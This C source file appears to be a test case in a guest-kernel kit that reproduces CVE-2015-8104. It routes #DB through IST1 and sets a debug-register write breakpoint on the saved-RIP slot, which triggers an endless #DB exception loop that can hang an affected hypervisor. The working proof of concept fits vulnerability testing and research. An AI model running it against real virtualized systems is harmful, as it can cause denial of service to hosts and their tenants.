/*
 * db-storm - the #DB delivery loop of CVE-2015-8104.
 *
 * 64-bit mode: the #DB gate switches to IST1, so every #DB frame lands at
 * the same addresses, and DR0 is a write breakpoint (8 bytes) on the slot
 * where the frame's RIP goes (IST1 top - 40). The guest's own write to that
 * slot raises the first #DB; delivering it writes the slot, which raises a
 * data-breakpoint trap before the handler's first instruction: another #DB,
 * benign after a #DB (SDM Vol. 3A Table 6-5), through the same IST slot,
 * forever, without an instruction boundary.
 */
#include "kit.h"

int main(void)
{
	kit_init();
	uintptr_t slot = KIT_IST1_TOP - 40;
	/* DR7: L0, R/W0 = 01 (writes), LEN0 = 10 (8 bytes). */
	uintptr_t dr7 = 1 | (1u << 16) | (2u << 18);

	kit_gate_ist(VEC_DB, 1);
	printf("db-storm: #DB through IST1, DR0 = write breakpoint on the frame's RIP slot %#lx\n",
	       (unsigned long)slot);
	printf("db-storm: from here on no instruction completes\n");
	write_dr0(slot);
	write_dr7(dr7);
	__asm__ volatile("movq %0, (%0)" : : "r"(slot) : "memory");
	printf("db-storm: the storm ended (not expected)\n");
	return 1;
}
